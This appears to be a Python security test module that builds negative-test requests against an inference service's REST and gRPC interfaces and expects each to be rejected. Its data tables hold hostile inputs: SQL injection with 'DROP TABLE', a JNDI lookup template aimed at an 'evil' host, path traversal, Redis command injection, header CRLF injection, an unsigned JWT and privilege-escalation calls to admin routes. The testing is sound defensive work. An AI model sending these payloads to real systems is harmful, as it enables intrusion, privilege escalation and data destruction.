"""Keys that are none, roles that are too low, and metadata that is nonsense, over both doors."""

from collections.abc import Callable, Iterator
from dataclasses import replace

from google.protobuf.message import Message
from harness.asking import TINY
from security.attack import (
    ANSWERED,
    COMPLETIONS,
    COUNT,
    DETOKENIZE,
    FEEDBACK,
    MARK,
    MESSAGES,
    TOKENIZE,
    Attack,
    Rest,
    Rpc,
    chat,
    generate,
)
from serin.inference.v1 import inference_pb2
from serin_mesh.errors import Reason

KEYS, ADMIN, METADATA = "keys", "admin routes", "metadata"
MISSING, WRONG, LOW = Reason.KEY_MISSING, Reason.KEY_INVALID, Reason.ROLE_INSUFFICIENT

NO_KEYS = {
    "SQL": "' OR '1'='1",
    "SQL behind a prefix": "sk-serin-' OR 1=1; DROP TABLE keys;--",
    "a wildcard": "*",
    "a wildcard behind a prefix": "sk-serin-*",
    "a pattern of Redis": "sk-serin-[a-z]*?",
    "a command of Redis": "x\tSET a b",
    "a hash tag of Redis": "{default}:keys",
    "a path": "../../default.key",
    "a template": "{{config}}${jndi:ldap://evil/x}",
    "a format": "%s%s%n{0.__class__}",
    "JSON": '{"$gt": ""}',
    "one character too many": "{key}x",
    "the key in capitals": "SK-SERIN-" + "A" * 40,
    "the digest of nothing": "0" * 64,
    "an identifier of a key": "key_t9d9XdENUEuaPuOF",
    "10 kB": "x" * 10_000,
    "257 characters": "sk-serin-" + "x" * 248,
    "a token of three dots": "eyJ...",
    "a token without a signature": "eyJhbGciOiJub25lIn0.eyJpc3MiOiJ4Iiwic3ViIjoiYWRtaW4ifQ.",
    "a token of 9 kB": "eyJ" + "x" * 9000 + ".y.z",
    "true": "true",
    "null": "null",
    "undefined": "undefined",
    "zero": "0",
    "anonymous": "anonymous",
}

ODD_BYTES = {
    "bytes above 0x7f": b"sk-serin-\xff\xfe\x80",
    "half of UTF-8": b"sk-serin-\xc3",
    "overlong UTF-8": b"\xc0\xae\xc0\xae",
    "emoji": "🗝".encode(),
}
"""HTTP allows them in values of headers, gRPC does not."""

SCHEMES = {
    "no scheme": "{key}",
    "Basic": "Basic {key}",
    "Digest": "Digest {key}",
    "Bearer twice": "Bearer Bearer {key}",
    "a tab between": "Bearer\t{key}",
    "a colon": "Bearer: {key}",
    "nothing": "",
    "Bearer alone": "Bearer",
}

ODD_METADATA = {
    "x-request-id": ["x" * 10_000, "a b", "../../x", "{{7*7}}", "' OR 1=1", "%0d%0aX: y", "req-*", "~"],
    "traceparent": [
        "x",
        "00-" + "0" * 32 + "-" + "0" * 16 + "-01",
        "00-" + "f" * 32 + "-" + "f" * 16 + "-ff",
        "ff-" + "a" * 5000,
        "00-zz-zz-zz",
    ],
    "tracestate": ["x" * 10_000, "a=b," * 500, "=,=,="],
    "baggage": ["a=b," * 2000, "%%%"],
    "x-session-id": ["x" * 256, "*", "{default}"],
}

NO_TIMES = ["0", "-1", "NaN", "inf", "1e9", "0x10", "1,5", "9" * 30, "1 s", "", "٣", "1.", "+1", "None"]
NO_IDEMPOTENCY_KEYS = ["", "a b", "x" * 256, "x" * 10_000, "a\tb"]

ADMIN_ROUTES = [
    ("POST", "/admin/keys", {"role": "admin"}),
    ("GET", "/admin/keys", None),
    ("DELETE", "/admin/keys/key_0000000000000000", None),
    ("DELETE", "/admin/keys/*", None),
    ("GET", "/admin/tenants", None),
    ("PUT", "/admin/organizations/default", {"limits": {}}),
    ("PUT", "/admin/organizations/..%2fx", {"limits": {}}),
    ("PUT", "/admin/projects/default", {"organization": "default"}),
    ("GET", "/admin/usage", None),
    ("GET", "/admin/usage?by=key", None),
    ("GET", "/admin/audit", None),
    ("GET", "/admin/audit?first=1&count=1000", None),
    ("GET", "/metrics", None),
]


def attacks() -> Iterator[Attack]:
    """All of them."""
    yield from _keys()
    yield from _roles()
    yield from _metadata()


def _keys() -> Iterator[Attack]:
    for name, key in NO_KEYS.items():
        yield Attack(KEYS, name, _rest_by(key), (WRONG,))
        if len(key) < 8000:  # more is more than gRPC takes as metadata
            yield Attack(KEYS, name, _rpc_by(key), (WRONG,))
    for name, raw in ODD_BYTES.items():
        yield Attack(KEYS, name, replace(chat(), key=None, headers={"authorization": b"Bearer " + raw}), (WRONG,))
    for name, shown in SCHEMES.items():
        # A scheme that is none leaves no key; what comes behind Bearer is one, if a wrong one.
        ends = (MISSING, WRONG)
        yield Attack(KEYS, f"scheme: {name}", replace(chat(), key=None, headers={"authorization": shown}), ends)
        if "\t" not in shown:
            yield Attack(
                KEYS, f"scheme: {name}", replace(generate(), key=None, metadata=[("authorization", shown)]), ends
            )
    for path in (COMPLETIONS, MESSAGES, COUNT, FEEDBACK, TOKENIZE, DETOKENIZE):
        yield Attack(KEYS, f"none at {path}", Rest({}, path, key=None), (MISSING,))
    for method, make in _calls().items():
        yield Attack(KEYS, f"none at {method}", Rpc(make, method, key=None), (MISSING,))
        yield Attack(KEYS, f"a wrong one at {method}", Rpc(make, method, key="sk-serin-no"), (WRONG,))
    cookie = replace(chat(), key=None, headers={"cookie": "authorization=Bearer {key}"})
    yield Attack(KEYS, "in a cookie", cookie, (MISSING,))
    query = replace(chat(), key=None, path="/v1/chat/completions?api_key={key}&key={key}&access_token={key}")
    yield Attack(KEYS, "in the query", query, (MISSING,))
    yield Attack(KEYS, "in the body", Rest({**chat().body, "api_key": "x"}, key=None), (MISSING,))


def _roles() -> Iterator[Attack]:
    for method, path, body in ADMIN_ROUTES:
        yield Attack(ADMIN, f"{method} {path} by an application", Rest(body, path, method), (LOW,))
    lanes = ("0" * 32, "*", "x" * 1000, "../x", MARK)
    for lane in lanes:
        yield Attack(
            ADMIN, f"a lane {lane[:20]!r} by an application", replace(chat(), headers={"serin-lane": lane}), (LOW,)
        )
        yield Attack(
            ADMIN,
            f"a lane {lane[:20]!r} by an application",
            replace(generate(), metadata=[("serin-lane", lane)]),
            (LOW,),
        )


def _metadata() -> Iterator[Attack]:
    for name, values in ODD_METADATA.items():
        for value in values:
            row = f"{name}: {value[:30]!r} ({len(value)})"
            yield Attack(METADATA, row, replace(chat(), headers={name: value}), (ANSWERED,))
            if len(value) < 8000:  # more is more than HTTP/2 headers may have here
                yield Attack(METADATA, row, replace(generate(), metadata=[(name, value)]), (ANSWERED,))
    for length in (257, 7000):
        row, value = f"x-session-id of {length} bytes", "x" * length
        refused = (Reason.PARAMETER_INVALID,)
        yield Attack(METADATA, row, replace(chat(), headers={"x-session-id": value}), refused)
        yield Attack(METADATA, row, replace(generate(), metadata=[("x-session-id", value)]), refused)
    for value in NO_TIMES:
        odd = replace(chat(), headers={"x-request-timeout": value.encode()})
        yield Attack(METADATA, f"x-request-timeout: {value!r}", odd, (Reason.PARAMETER_INVALID,))
    for value in NO_IDEMPOTENCY_KEYS:
        row = f"idempotency-key: {value[:20]!r} ({len(value)})"
        yield Attack(METADATA, row, replace(chat(), headers={"idempotency-key": value}))
        if len(value) < 8000 and "\t" not in value:
            yield Attack(METADATA, row, replace(generate(), metadata=[("idempotency-key", value)]))
    ours = {"serin-request-id": "a b/../*", "serin-tenant": "other", "serin-vocabulary": "x", "grpc-timeout": "0n"}
    for name, value in ours.items():
        yield Attack(METADATA, f"the mesh's own {name}", replace(chat(), headers={name: value}), (ANSWERED,))
        if name != "grpc-timeout":
            yield Attack(METADATA, f"the mesh's own {name}", replace(generate(), metadata=[(name, value)]), (ANSWERED,))
    for name in ("authorization", "x-api-key", "serin-lane", "serin-cascade", "idempotency-key", "x-session-id"):
        twice = replace(generate(), key=None, metadata=[(name, "a"), (name, "b")])
        yield Attack(METADATA, f"{name} twice", twice, (Reason.PARAMETER_INVALID,))


def _rest_by(key: str) -> Rest:
    return replace(chat(), key=key)


def _rpc_by(key: str) -> Rpc:
    return replace(generate(), key=key.replace("\t", " "))


def _calls() -> dict[str, Callable[[], Message]]:
    return {
        "Generate": lambda: inference_pb2.GenerateRequest(model=TINY, prompt="x"),
        "Embed": lambda: inference_pb2.EmbedRequest(model=TINY, inputs=["x"]),
        "CountTokens": lambda: inference_pb2.CountTokensRequest(model=TINY, prompt="x"),
        "Tokenize": lambda: inference_pb2.TokenizeRequest(model=TINY, prompt="x"),
        "Detokenize": lambda: inference_pb2.DetokenizeRequest(model=TINY, token_ids=[1]),
        "ListModels": inference_pb2.ListModelsRequest,
        "SendFeedback": lambda: inference_pb2.SendFeedbackRequest(request_id="x", score=1),
    }
